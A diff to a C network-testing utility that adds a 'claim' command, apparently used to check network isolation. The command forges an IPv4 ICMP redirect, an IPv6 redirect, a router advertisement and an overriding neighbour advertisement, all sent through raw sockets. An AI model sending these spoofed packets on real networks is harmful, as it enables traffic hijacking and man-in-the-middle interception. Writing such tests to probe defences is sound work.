@@ -1,4 +1,5 @@
-/* Both ends of network connections: answers everybody (serve), or tries to reach others (try) and prints the results. */
+/* Both ends of network connections: answers everybody (serve), or tries to reach others (try) and prints the results. It also claims to be a
+   router or a neighbour (claim). */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
@@ -239,8 +240,60 @@ static int hold(char *text, char *port, char *protocol) {
     return 0;
 }
 
+/* ---- claim LINK TO TARGET GATEWAY TO6 TARGET6 GATEWAY6 ------------------------------------------------------------------ */
+
+/* A redirect of what `to` sends to `target` (RFC 792), as one of its routers would send it. */
+static ssize_t redirect_v4(char *to, char *target, char *gateway) {
+    struct {
+        struct icmphdr icmp;
+        struct iphdr ip;
+        struct icmphdr answer;
+    } message = {.icmp = {.type = ICMP_REDIRECT, .code = ICMP_REDIR_HOST},
+                 .ip = {.version = 4, .ihl = 5, .tot_len = htons(28), .ttl = 64, .protocol = IPPROTO_ICMP},
+                 /* No socket sent that, so the kernel itself believes the redirect or not (icmp_err in icmp.c). */
+                 .answer = {.type = ICMP_ECHOREPLY}};
+    struct end host = end_of(to, "0");
+    inet_pton(AF_INET, gateway, &message.icmp.un.gateway);
+    inet_pton(AF_INET, to, &message.ip.saddr);
+    inet_pton(AF_INET, target, &message.ip.daddr);
+    message.icmp.checksum = checksum((unsigned short *)&message, sizeof message / 2);
+    return sendto(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), &message, sizeof message, 0, (struct sockaddr *)&host.address, host.length);
+}
+
+/* Sends a message of neighbour discovery (RFC 4861), which is valid only with the highest hop limit. */
+static ssize_t discover(const char *link, char *to, void *message, size_t length) {
+    int hops = 255, index = (int)if_nametoindex(link), number = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
+    struct end host = end_of(to, "0");
+    ((struct sockaddr_in6 *)&host.address)->sin6_scope_id = (unsigned)index;
+    setsockopt(number, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof hops);
+    setsockopt(number, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
+    setsockopt(number, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
+    return sendto(number, message, length, 0, (struct sockaddr *)&host.address, host.length);
+}
+
+static int claim(char **names) {
+    char everybody[] = "ff02::1";
+    struct nd_router_advert router = {.nd_ra_hdr = {.icmp6_type = ND_ROUTER_ADVERT}};
+    router.nd_ra_router_lifetime = htons(1800);
+    struct {
+        struct nd_neighbor_advert advert;
+        unsigned char option[8];
+    } neighbour = {.advert = {.nd_na_hdr = {.icmp6_type = ND_NEIGHBOR_ADVERT}}, .option = {ND_OPT_TARGET_LINKADDR, 1, 2, 0, 0, 0, 0, 9}};
+    neighbour.advert.nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE;
+    inet_pton(AF_INET6, names[5], &neighbour.advert.nd_na_target);
+    struct nd_redirect redirect = {.nd_rd_hdr = {.icmp6_type = ND_REDIRECT}};
+    inet_pton(AF_INET6, names[5], &redirect.nd_rd_dst);
+    inet_pton(AF_INET6, names[6], &redirect.nd_rd_target);
+    printf("redirect-v4 %zd\n", redirect_v4(names[1], names[2], names[3]));
+    printf("redirect-v6 %zd\n", discover(names[0], names[4], &redirect, sizeof redirect));
+    printf("router %zd\n", discover(names[0], everybody, &router, sizeof router));
+    printf("neighbour %zd\n", discover(names[0], everybody, &neighbour, sizeof neighbour));
+    return 0;
+}
+
 int main(int count, char **arguments) {
     if (count < 3) return 2;
+    if (!strcmp(arguments[1], "claim") && count == 9) return claim(arguments + 2);
     if (!strcmp(arguments[1], "hold")) return hold(arguments[2], arguments[3], arguments[4]);
     if (!strcmp(arguments[1], "flood")) return flood(arguments[2], atoi(arguments[3]));
     return !strcmp(arguments[1], "serve") ? serve(count - 2, arguments + 2) : try(count - 2, arguments + 2);
